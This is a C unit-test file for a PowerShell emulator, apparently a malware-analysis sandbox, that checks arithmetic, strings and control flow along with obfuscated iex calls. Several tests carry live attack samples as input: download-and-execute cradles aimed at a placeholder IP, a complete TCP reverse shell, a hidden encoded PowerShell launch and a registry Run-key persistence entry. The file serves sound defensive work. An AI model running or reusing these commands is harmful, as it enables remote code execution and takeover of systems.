/* SPDX-License-Identifier: GPL-2.0-or-later */
/* PowerShell: the language, .NET and cmdlets, each by what Microsoft's pages say of it. */
#include "emu/server/server.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

static struct server *windows;

static int open_servers(void **state)
{
	char why[256];

	if (server_open(SOURCE_ROOT "/emu/profiles/windows", why, sizeof(why), &windows) < 0) {
		fprintf(stderr, "%s\n", why);
		return -1;
	}
	return 0;
}

static int close_servers(void **state)
{
	server_close(windows);
	return 0;
}

static const struct outcome *run_as(enum language language, const char *code)
{
	struct command c = { .language = language, .code = bytes_text(code) };
	const struct outcome *o = NULL;

	assert_int_equal(server_run(windows, &c, &o), 0);
	return o;
}

static const struct outcome *run(const char *code)
{
	return run_as(LANGUAGE_POWERSHELL, code);
}

static void prints(const char *code, const char *text)
{
	const struct outcome *o = run(code);
	bool right = bytes_equal(o->run.out, bytes_text(text)) && o->run.stopped_by == STOPPED_EXIT;

	if (!right)
		print_error("%s [%s]: %.*s%.*s\n", code, stopped_by_name(o->run.stopped_by), (int)o->run.out.left,
		            (const char *)o->run.out.at, (int)o->run.err.left, (const char *)o->run.err.at);
	assert_true(right);
}

static const struct event *event(const struct outcome *o, enum event_kind kind, unsigned nth)
{
	for (unsigned i = 0; i < o->run.events_count; i++)
		if (o->run.events[i].kind == kind && nth-- == 0)
			return &o->run.events[i];
	return NULL;
}

static void fetches(const char *code, const char *url)
{
	const struct outcome *o = run(code);
	const struct event *e = event(o, EVENT_FETCH, 0);

	if (e == NULL || !bytes_equal(e->name, bytes_text(url)) || o->run.stopped_by != STOPPED_EXIT)
		print_error("%s [%s]: %.*s\n", code, stopped_by_name(o->run.stopped_by), (int)o->run.err.left, (const char *)o->run.err.at);
	assert_non_null(e);
	assert_true(bytes_equal(e->name, bytes_text(url)));
	assert_int_equal(o->run.stopped_by, STOPPED_EXIT);
}

/* about_Arithmetic_Operators, about_Operator_Precedence */
static void numbers_are_added_and_joined(void **state)
{
	prints("1+2*3", "7\r\n");
	prints("(1+2)*3", "9\r\n");
	prints("7/2", "3.5\r\n");
	prints("6/2", "3\r\n");
	prints("7%3", "1\r\n");
	prints("2147483647+1", "2147483648\r\n");
	prints("'5'+3", "53\r\n");
	prints("3+'5'", "8\r\n");
	prints("'ab'*3", "ababab\r\n");
	prints("0x10+1kb", "1040\r\n");
	prints("-5 -bxor 3; 6 -band 3; 1 -shl 4", "-8\r\n2\r\n16\r\n");
	prints("[int]'12' + [char]'A'", "77\r\n");
	prints("1..4 -join '+'", "1+2+3+4\r\n");
	prints("[int]2.5; [int]3.5; [math]::Pow(2,10)", "2\r\n4\r\n1024\r\n");
}

/* about_Quoting_Rules */
static void strings_hold_what_they_say(void **state)
{
	prints("$a=7; \"x$a y $($a*2) `$a\"", "x7 y 14 $a\r\n");
	prints("'$a ''q'''", "$a 'q'\r\n");
	prints("@\"\nline $(1+1)\n\"@", "line 2\r\n");
	prints("@'\nline $x\n'@", "line $x\r\n");
	prints("\"a`tb\".Length", "3\r\n");
	prints("$h=@{a=1}; \"$($h.a)\"", "1\r\n");
	prints("\"$env:windir\\x\"", "C:\\Windows\\x\r\n");
	prints("${a b}=3; ${a b}", "3\r\n");
}

/* about_Comparison_Operators, about_Split, about_Join */
static void operators_compare_and_cut(void **state)
{
	prints("'ABC' -eq 'abc'; 'ABC' -ceq 'abc'", "True\r\nFalse\r\n");
	prints("'a,b,c' -split ','", "a\r\nb\r\nc\r\n");
	prints("('a','b','c') -join '-'", "a-b-c\r\n");
	prints("-join ('x','y')", "xy\r\n");
	prints("'hello' -replace 'l+','L'", "heLo\r\n");
	prints("'abc' -match '(b)(c)' | out-null; $matches[2]", "c\r\n");
	prints("'report.txt' -like '*.TXT'", "True\r\n");
	prints("1,2,3,4 -gt 2", "3\r\n4\r\n");
	prints("2 -in 1,2,3; 1,2 -contains 5", "True\r\nFalse\r\n");
	prints("'{1} {0:X2} {2,5}|' -f 255,'a',3", "a FF     3|\r\n");
	prints("'{0:D4}' -f 42", "0042\r\n");
	prints("1 -is [int]; 'a' -isnot [string]", "True\r\nFalse\r\n");
}

/* about_Arrays, about_Hash_Tables */
static void lists_and_tables_are_indexed(void **state)
{
	prints("$a=1,2,3; $a[0]; $a[-1]; $a.Count", "1\r\n3\r\n3\r\n");
	prints("$a='hello'; $a[4..0] -join ''", "olleh\r\n");
	prints("$h=@{x=1;'y z'=2}; $h['y z']; $h.x; $h.Count", "2\r\n1\r\n2\r\n");
	prints("@(1).Length; ,(1,2) | % { $_.Count }", "1\r\n2\r\n");
	prints("(,1).Count; ('a' -split ',').GetType().Name; (,(1,2)).Count", "1\r\nObject[]\r\n1\r\n");
	prints("$a=@(); $a+=5; $a+=6; \"$a\"", "5 6\r\n");
	prints("$a,$b = 1,2; $b; $a", "2\r\n1\r\n");
	prints("$x='abc'.ToCharArray(); [array]::Reverse($x); -join $x", "cba\r\n");
}

/* about_If, about_Foreach, about_While, about_Switch, about_Functions, about_Try_Catch_Finally */
static void statements_branch_and_loop(void **state)
{
	prints("if (1 -gt 2) { 'a' } elseif ($true) { 'b' } else { 'c' }", "b\r\n");
	prints("foreach ($i in 1..3) { $i*2 }", "2\r\n4\r\n6\r\n");
	prints("for ($i=0; $i -lt 3; $i++) { $i }", "0\r\n1\r\n2\r\n");
	prints("$i=0; while ($true) { $i++; if ($i -eq 2) { continue }; if ($i -gt 3) { break }; $i }", "1\r\n3\r\n");
	prints("do { $n++ } until ($n -ge 4); $n", "4\r\n");
	prints("switch ('b') { 'a' { 1 } 'b' { 2 } default { 3 } }", "2\r\n");
	prints("function f($a, [int]$b = 5) { $a + $b }; f 1; f 1 2; f -b 3 -a 4", "6\r\n3\r\n7\r\n");
	prints("try { throw 'x' } catch { \"got $_\" } finally { 'end' }", "got System.Management.Automation.PSCustomObject\r\nend\r\n");
	prints("$f={ param($x) $x*$x }; & $f 4; $f.Invoke(3)", "16\r\n9\r\n");
	prints("function g { return 1; 2 }; g", "1\r\n");
	prints("1..5 | ? { $_ % 2 } | % { $_ * 10 }", "10\r\n30\r\n50\r\n");
	prints("3,1,2 | sort | select -first 2", "1\r\n2\r\n");
	prints("'a','bb' | measure | % { $_.Count }", "2\r\n");
}

/* What hides code is undone by running it. */
static void disguises_come_off_by_running(void **state)
{
	prints("iex 'echo ok'", "ok\r\n");
	prints("IeX ('ec'+'ho ok')", "ok\r\n");
	prints("i`ex \"ec`ho ok\"", "ok\r\n");
	prints("& ('i'+'ex') ('{1}{0}' -f 'o ok','ech')", "ok\r\n");
	prints(".($pshome[4]+$pshome[30]+'x') 'echo ok'", "ok\r\n");
	prints("&($env:comspec[4,15,25]-join'') 'echo ok'", "ok\r\n");
	prints("-join[char[]](101,99,104,111,32,111,107)|iex", "ok\r\n");
	prints("iex ([char]101+[char]99+'ho ok')", "ok\r\n");
	prints("('ko ohce'[-1..-7] -join '') | iex", "ok\r\n");
	prints("iex ('eXho ok'.Replace('X','c'))", "ok\r\n");
	prints("iex ('eXho ok' -replace 'X','c')", "ok\r\n");
	prints("iex ('101 99 104 111 32 111 107'.Split(' ') | % { [char][int]$_ } | % { $s='' } { $s+=$_ } { $s })", "ok\r\n");
	prints("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobyBvaw==')))", "ok\r\n");
	prints("iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('ZQBjAGgAbwAgAG8AawA=')))", "ok\r\n");
	prints("$a='ech';$b='o ok';. (gcm *ke-exp*) \"$a$b\"", "ok\r\n");
	prints("iex (((100,98,105,110,33,110,106) | % { [char]($_ -bxor 1) }) -join '')", "ok\r\n");
	prints("[scriptblock]::Create('echo ok').Invoke()", "ok\r\n");
	prints("([regex]::Matches('ko ohce','.','RightToLeft') | % { $_.Value }) -join '' | iex", "ok\r\n");
	prints("sal z iex; z 'echo ok'", "ok\r\n");
	prints("(gv iex -ea 0); $ExecutionContext | out-null; 'ok'", "ok\r\n");
	prints("iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("
	       "'S03OyFfIzwYA'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()", "ok\r\n");
}

static void cradles_fetch(void **state)
{
	const char *url = "http://203.0.113.9/a.ps1";

	fetches("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", url);
	fetches("iex(iwr http://203.0.113.9/a.ps1 -UseBasicParsing)", url);
	fetches("iwr -Uri http://203.0.113.9/a.ps1 -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe", url);
	fetches("$c=New-Object System.Net.WebClient;$c.Headers.Add('User-Agent','x');$c.DownloadFile('http://203.0.113.9/a.ps1',\"$env:temp\\a.exe\")", url);
	fetches("(irm 'http://203.0.113.9/a.ps1')|iex", url);
	fetches("Start-BitsTransfer -Source http://203.0.113.9/a.ps1 -Destination C:\\Windows\\Temp\\a.exe", url);
	fetches("$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','http://203.0.113.9/a.ps1',$false);$h.send();iex $h.responseText", url);
	fetches("[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://203.0.113.9/a.ps1')).EntryPoint.Invoke($null,$null)", url);
	fetches("$r=[System.Net.WebRequest]::Create('http://203.0.113.9/a.ps1');iex ([IO.StreamReader]($r.GetResponse().GetResponseStream())).ReadToEnd()", url);
	fetches("[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;wget http://203.0.113.9/a.ps1 -o C:\\Windows\\Temp\\b", url);
	fetches("&('New-Ob'+'ject') (\"Net.W\"+\"ebClient\") | % { $_.('Down'+'loadString').Invoke('http://203.0.113.9/a.ps1') } | IEX", url);
}

static void a_reverse_shell_connects(void **state)
{
	const struct outcome *o = run("$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream();"
	    "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName "
	    "System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + "
	    "(pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);"
	    "$stream.Flush()};$client.Close()");

	assert_int_equal(o->run.stopped_by, STOPPED_EXIT);
	assert_non_null(event(o, EVENT_CONNECT, 0));
	assert_int_equal(event(o, EVENT_CONNECT, 0)->port, 4444);
}

static void programs_and_command_lines_are_run(void **state)
{
	const struct outcome *o;

	prints("cmd /c echo hi", "hi\r\n");
	prints("$x = cmd /c 'echo hi'; $x.Length", "2\r\n");
	prints("powershell -nop -c \"1+1\"", "2\r\n");
	o = run_as(LANGUAGE_CMD, "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc dwByAGkAdABlAC0AaABvAHMAdAAgAG8AawA=");
	assert_true(bytes_equal(o->run.out, bytes_text("ok\r\n")));
	o = run_as(LANGUAGE_CMD, "powershell -c \"(1..3|%{$_*2}) -join ','\"");
	assert_true(bytes_equal(o->run.out, bytes_text("2,4,6\r\n")));
	o = run("Start-Process cmd.exe -ArgumentList '/c whoami > C:\\Windows\\Temp\\o.txt' -WindowStyle Hidden");
	assert_non_null(event(o, EVENT_WRITE, 0));
	o = run("Start-Sleep 5");
	assert_int_equal(o->run.ended_ns, 5000000000);
	o = run("Test-Connection 203.0.113.5 -Count 1");
	assert_non_null(event(o, EVENT_ICMP, 0));
	o = run("Resolve-DnsName x.example.net; [Net.Dns]::GetHostAddresses('y.example.net')");
	assert_non_null(event(o, EVENT_DNS, 1));
	o = run("New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value c:\\u.exe");
	assert_non_null(event(o, EVENT_REGISTRY, 0));
}

static void what_is_not_modelled_is_told(void **state)
{
	const struct outcome *o = run("[System.Drawing.Bitmap]::FromFile('x'); echo after");

	assert_int_equal(o->run.stopped_by, STOPPED_UNSUPPORTED);
	assert_true(o->questions_count > 0);
	o = run("nosuchthing; 'after'");
	assert_true(bytes_equal(o->run.out, bytes_text("after\r\n")));
	assert_int_equal(o->questions[0].kind, QUESTION_PROGRAM);
}

static void every_bound_has_its_reason(void **state)
{
	char deep[4096] = "";

	assert_int_not_equal(run("while ($true) { $i++ }")->run.stopped_by, STOPPED_EXIT);
	assert_int_equal(run("$x='aaaaaaaa'; while ($true) { $x+=$x }")->run.stopped_by, STOPPED_MEMORY);
	assert_int_equal(run("function f { f }; f")->run.stopped_by, STOPPED_ROUNDS);
	assert_int_equal(run("$s='iex $s'; iex $s")->run.stopped_by, STOPPED_ROUNDS);
	assert_int_not_equal(run("while (1) { 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' }")->run.stopped_by, STOPPED_EXIT);
	assert_int_not_equal(run("'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -match '^(a+)+$'")->run.stopped_by, STOPPED_SIGNAL);
	for (int i = 0; i < 3000; i++)
		strcat(deep, "(");
	assert_int_equal(run(deep)->run.stopped_by, STOPPED_ROUNDS);
	prints("'well'", "well\r\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(numbers_are_added_and_joined),
		cmocka_unit_test(strings_hold_what_they_say),
		cmocka_unit_test(operators_compare_and_cut),
		cmocka_unit_test(lists_and_tables_are_indexed),
		cmocka_unit_test(statements_branch_and_loop),
		cmocka_unit_test(disguises_come_off_by_running),
		cmocka_unit_test(cradles_fetch),
		cmocka_unit_test(a_reverse_shell_connects),
		cmocka_unit_test(programs_and_command_lines_are_run),
		cmocka_unit_test(what_is_not_modelled_is_told),
		cmocka_unit_test(every_bound_has_its_reason),
	};

	return cmocka_run_group_tests(tests, open_servers, close_servers);
}
